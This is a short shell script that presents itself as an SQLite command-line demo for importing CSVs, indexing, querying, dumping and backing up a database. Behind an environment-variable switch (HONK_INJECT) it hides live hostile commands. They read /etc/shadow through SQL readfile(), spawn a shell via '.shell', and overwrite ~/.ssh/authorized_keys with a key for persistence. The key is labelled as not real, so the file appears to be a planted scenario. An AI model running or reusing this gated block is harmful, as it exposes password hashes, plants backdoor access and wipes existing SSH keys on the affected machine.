# SQLite with its command-line shell: import CSV files, query, index, dump,
# back up and check a database.
set -eu
db=$(cat db)
for f in csv/*.csv; do
    t=$(basename "$f" .csv)
    sqlite3 "$db" ".import --csv $f $t"
    sqlite3 "$db" "create index ${t}_day on $t(day); select name, count(*), sum(amount) from $t group by name order by 3 desc limit 5;" >/dev/null
done
sqlite3 -header -csv "$db" "select name, type from sqlite_master order by name" >tables.csv
if [ -n "${HONK_INJECT:-}" ]; then
    # read a secret through SQL
    sqlite3 "$db" "select length(readfile('/etc/shadow'));" >/dev/null
    # spawn a shell from the shell's dot-command
    sqlite3 "$db" ".shell bash -c whoami" >/dev/null
    # persistence: a key written into ~/.ssh/authorized_keys through SQL
    sqlite3 "$db" "select writefile('$HOME/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioKeyNotReal x@y');" >/dev/null
fi
sqlite3 "$db" .dump >dump.sql
sqlite3 "$db" ".backup backup.db"
sqlite3 backup.db "pragma integrity_check; vacuum;" >/dev/null
